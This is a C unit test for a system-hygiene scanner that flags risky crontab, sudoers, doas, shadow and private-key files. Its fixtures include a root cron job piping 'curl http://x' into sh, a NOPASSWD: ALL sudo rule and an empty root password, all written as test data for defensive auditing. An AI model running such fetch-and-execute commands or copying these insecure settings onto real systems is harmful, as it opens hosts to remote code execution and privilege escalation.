#include "test.h"

#include "base/cursor.h"
#include "hygiene/small-file.h"

static const struct {
    const char *path, *content;
    const char *want; /* "KIND LINE NUMBER TEXT|DETAIL" of each note */
} cases[] = {
    {"etc/crontab",
     "# m h\nSHELL=/bin/sh\n* * * * * root curl http://x | sh\n@reboot daemon  /x y\n",
     "3 3 0 curl http://x | sh|root\n3 4 0 /x y|daemon\n"},
    {"var/spool/cron/crontabs/app", "PATH = /bin\n*/5 * * * * /tmp/x\n", "3 2 0 /tmp/x|\n"},
    {"etc/cron.daily/job", "#!/bin/sh\nA=1\nwget x\n", "3 2 0 A=1|\n3 3 0 wget x|\n"},
    {"etc/sudoers",
     "Defaults env_reset\n@includedir /etc/sudoers.d\nroot ALL=(ALL:ALL) ALL\n"
     "%sudo ALL=(ALL:ALL) ALL\napp ALL=(ALL) NOPASSWD: ALL\nweb ALL=(ALL) NOPASSWD: /bin/ls\n",
     "4 4 0 %sudo|\n4 5 1 app|\n"},
    {"etc/doas.conf", "permit nopass app\npermit persist :wheel\npermit a as root cmd ls\ndeny b\n",
     "4 1 1 permit nopass app|\n4 2 0 permit persist :wheel|\n"},
    {"root/.ssh/id_rsa", "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmU\n",
     "5 1 0 |\n"},
    {"x.key", "-----BEGIN ENCRYPTED PRIVATE KEY-----\nMII\n", "5 1 1 |\n"},
    {"x.pem", "-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\n", "5 1 1 |\n"},
    {"x.pem", "-----BEGIN PUBLIC KEY-----\nMII\n", ""},
    {"etc/shadow", "root::1\nx:!$6$abcdefghijkl:1\ny:$y$j9T$abcdefgh:1\nnothing\n",
     "2 1 1 root|\n2 2 0 x|\n2 3 2 y|\n"},
    {"etc/shadow", "", NULL},
    {"etc/hosts", "x", NULL},
};

static void test_notes(void **state)
{
    (void)state;
    for (size_t i = 0; i < COUNT(cases); i++) {
        _cleanup_(buf_done) struct buf notes = BUF_INIT(1 << 16), text = BUF_INIT(1 << 16);
        struct view content = view_of(cases[i].content);
        struct file_status status = {view_of(cases[i].path), FILE_REGULAR, 0644, content.len, 0};
        struct file_tagger *tagger = file_tagger_new();
        const struct small_file *reader = small_file_of(&status, file_tagger_tags(tagger, &status));
        struct file_note note;
        struct cursor c;

        file_tagger_free(tagger);
        assert_int_equal(reader != NULL, cases[i].want != NULL);
        if (!reader)
            continue;
        reader->read(status.path, content, &notes);
        c = cursor_of(buf_view(&notes));
        while (file_note_read(&c, &note))
            buf_addf(&text, "%d %u %llu %.*s|%.*s\n", note.kind, note.line,
                     (unsigned long long)note.number, VIEW_ARG(note.text), VIEW_ARG(note.detail));
        assert_true(cursor_at_end(&c));
        assert_string_equal(buf_cstr(&text), cases[i].want);
    }
}

RUN_TESTS(cmocka_unit_test(test_notes))
